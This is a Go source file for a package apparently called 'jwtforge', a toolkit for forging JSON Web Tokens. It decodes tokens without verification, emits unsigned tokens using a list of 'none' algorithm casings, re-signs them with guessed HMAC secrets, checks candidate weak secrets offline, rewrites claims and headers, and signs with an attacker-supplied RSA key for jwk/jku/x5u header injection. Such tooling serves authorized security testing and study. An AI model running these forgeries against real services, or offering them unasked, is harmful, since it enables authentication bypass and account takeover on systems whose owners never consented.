package jwtforge

import (
	"crypto"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"hash"
	"math/big"
	"strings"
)

// Token is a decoded JWT: header and claims as generic JSON objects, and
// the signature segment as it was (base64url text).
type Token struct {
	Header    map[string]any
	Claims    map[string]any
	Signature string
}

var enc = base64.RawURLEncoding

// Parse decodes a compact JWT without verifying it.
func Parse(raw string) (Token, error) {
	parts := strings.Split(raw, ".")
	if len(parts) != 3 {
		return Token{}, fmt.Errorf("want 3 segments, got %d", len(parts))
	}
	var t Token
	if err := decodeSegment(parts[0], &t.Header); err != nil {
		return Token{}, fmt.Errorf("header: %w", err)
	}
	if err := decodeSegment(parts[1], &t.Claims); err != nil {
		return Token{}, fmt.Errorf("claims: %w", err)
	}
	t.Signature = parts[2]
	return t, nil
}

func decodeSegment(s string, v any) error {
	data, err := enc.DecodeString(s)
	if err != nil {
		return err
	}
	return json.Unmarshal(data, v)
}

// Clone returns a deep copy that can be changed without touching t.
func (t Token) Clone() Token {
	c := Token{Header: map[string]any{}, Claims: map[string]any{}, Signature: t.Signature}
	for k, v := range t.Header {
		c.Header[k] = v
	}
	for k, v := range t.Claims {
		c.Claims[k] = v
	}
	return c
}

// SigningInput is base64url(header) + "." + base64url(claims).
func (t Token) SigningInput() (string, error) {
	h, err := json.Marshal(t.Header)
	if err != nil {
		return "", err
	}
	c, err := json.Marshal(t.Claims)
	if err != nil {
		return "", err
	}
	return enc.EncodeToString(h) + "." + enc.EncodeToString(c), nil
}

// Compact serialises t with its Signature segment unchanged.
func (t Token) Compact() (string, error) {
	in, err := t.SigningInput()
	if err != nil {
		return "", err
	}
	return in + "." + t.Signature, nil
}

// NoneAlgorithms are the casings of "none" that libraries have accepted.
var NoneAlgorithms = []string{"none", "None", "NONE", "nOnE"}

// Unsigned returns t with header alg set to alg (e.g. a "none" casing) and
// the given signature segment (empty, or the original one).
func Unsigned(t Token, alg, signature string) (string, error) {
	c := t.Clone()
	c.Header["alg"] = alg
	c.Signature = signature
	return c.Compact()
}

// SignHMAC signs t with alg (HS256, HS384 or HS512) and key, setting the
// header's alg accordingly.
func SignHMAC(t Token, alg string, key []byte) (string, error) {
	var h func() hash.Hash
	switch alg {
	case "HS256":
		h = sha256.New
	case "HS384":
		h = sha512.New384
	case "HS512":
		h = sha512.New
	default:
		return "", fmt.Errorf("unsupported HMAC algorithm %q", alg)
	}
	c := t.Clone()
	c.Header["alg"] = alg
	in, err := c.SigningInput()
	if err != nil {
		return "", err
	}
	mac := hmac.New(h, key)
	mac.Write([]byte(in))
	return in + "." + enc.EncodeToString(mac.Sum(nil)), nil
}

// VerifyHMAC reports whether raw carries a valid HS256/384/512 signature
// under key: the offline check for weak secrets.
func VerifyHMAC(raw string, key []byte) (bool, error) {
	t, err := Parse(raw)
	if err != nil {
		return false, err
	}
	alg, _ := t.Header["alg"].(string)
	i := strings.LastIndex(raw, ".")
	if i < 0 {
		return false, errors.New("no signature segment")
	}
	var h func() hash.Hash
	switch alg {
	case "HS256":
		h = sha256.New
	case "HS384":
		h = sha512.New384
	case "HS512":
		h = sha512.New
	default:
		return false, fmt.Errorf("token algorithm %q is not HMAC", alg)
	}
	sig, err := enc.DecodeString(raw[i+1:])
	if err != nil {
		return false, fmt.Errorf("signature: %w", err)
	}
	mac := hmac.New(h, key)
	mac.Write([]byte(raw[:i]))
	return hmac.Equal(mac.Sum(nil), sig), nil
}

// WithClaims returns a copy of t with the claims changed; a nil value
// deletes the claim.
func WithClaims(t Token, changes map[string]any) Token {
	c := t.Clone()
	for k, v := range changes {
		if v == nil {
			delete(c.Claims, k)
			continue
		}
		c.Claims[k] = v
	}
	return c
}

// WithHeader returns a copy of t with header fields changed; nil deletes.
func WithHeader(t Token, changes map[string]any) Token {
	c := t.Clone()
	for k, v := range changes {
		if v == nil {
			delete(c.Header, k)
			continue
		}
		c.Header[k] = v
	}
	return c
}

// SignRS256 signs t with an RSA key (PKCS#1 v1.5, SHA-256), setting the
// header's alg to RS256: the attacker's own key in jwk/jku/x5u attacks.
func SignRS256(t Token, key *rsa.PrivateKey) (string, error) {
	c := t.Clone()
	c.Header["alg"] = "RS256"
	in, err := c.SigningInput()
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256([]byte(in))
	sig, err := rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA256, sum[:])
	if err != nil {
		return "", fmt.Errorf("sign RS256: %w", err)
	}
	return in + "." + enc.EncodeToString(sig), nil
}

// PublicJWK is the JSON Web Key (RFC 7517) of an RSA public key, as an
// attacker embeds it in a token header or serves it from a jku URL.
func PublicJWK(key *rsa.PublicKey, kid string) map[string]any {
	return map[string]any{
		"kty": "RSA",
		"use": "sig",
		"alg": "RS256",
		"kid": kid,
		"n":   enc.EncodeToString(key.N.Bytes()),
		"e":   enc.EncodeToString(big.NewInt(int64(key.E)).Bytes()),
	}
}
